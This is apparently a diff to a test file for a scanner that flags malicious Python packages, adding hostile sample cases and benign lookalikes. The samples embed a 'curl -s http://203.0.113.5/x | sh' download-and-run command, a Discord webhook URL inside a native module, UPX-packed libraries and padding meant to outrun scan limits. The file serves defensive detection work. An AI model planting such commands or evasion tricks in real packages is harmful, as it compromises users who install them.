@@ -203,6 +203,30 @@ RUN = {
         + "import ctypes, subprocess\nsubprocess.Popen([HERE + '/bin/agent'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
         {"bin/agent": ELF},
     ),
+    "module-that-is-packed": (
+        "from acme import core\n",
+        {"core.abi3.so": b"\x7fELF\x02\x01\x01" + bytes(121) + b"UPX!" + bytes(900)},
+    ),
+    "module-with-a-command-inside": (
+        "from acme import core\n",
+        {"core.cpython-311-x86_64-linux-gnu.so": ELF + b"\0curl -s http://203.0.113.5/x | sh\0"},
+    ),
+    "module-with-a-chat-hook-inside": (
+        "from acme import core\n",
+        {"core.pyd": b"MZ" + bytes(200) + b"https://discord.com/api/webhooks/1/abcdefghijklmnop\0"},
+    ),
+    "library-that-is-packed": (
+        HERE + "import ctypes\nctypes.CDLL(HERE + '/libx.so')\n",
+        {"libx.so": b"\x7fELF\x02\x01\x01" + bytes(121) + b"UPX!" + bytes(900)},
+    ),
+    "code-in-a-file-too-long-to-follow": (
+        HERE + "exec(open(HERE + '/theme.txt').read())\n",
+        {"theme.txt": EVIL + "#" * (17 << 20)},
+    ),
+    "script-too-long-to-follow": (
+        HERE + "import subprocess\nsubprocess.run([sys.executable, HERE + '/theme.txt'])\n",
+        {"theme.txt": EVIL + "#" * (17 << 20)},
+    ),
     "names-from-tables": (
         "import importlib\nT = {'m': 'os', 'f': 'system', 'a': 'curl -s http://203.0.113.5/x | sh'}\ngetattr(importlib.import_module(T['m']), T['f'])(T['a'])\n",
         {},
@@ -274,6 +298,17 @@ HONEST: dict[str, tuple[str, dict[str, str | bytes]]] = {
     "bits-of-a-shipped-table": (
         HERE + "text = open(os.path.join(HERE, 'mask.txt')).read()\nBITS = [1 if c == '#' else 0 for c in text]\n",
         {"mask.txt": "##..##\n"},
+    ),
+    "module-with-addresses-of-its-manual": (
+        "from acme import core\n",
+        {
+            "core.cpython-311-x86_64-linux-gnu.so": ELF
+            + b"\0https://docs.acme.invalid/manual\0http://www.w3.org/2000/svg\0"
+        },
+    ),
+    "large-model-as-a-pickle": (
+        HERE + "import pickle\nMODEL = pickle.load(open(HERE + '/model.pkl', 'rb'))\n",
+        {"model.pkl": pickle.dumps(bytes(17 << 20))},
     ),
     "git-command-list": (
         "import subprocess\ndef revision(folder):\n    return subprocess.check_output(['git', '-C', folder, 'rev-parse', 'HEAD'], text=True).strip()\n",
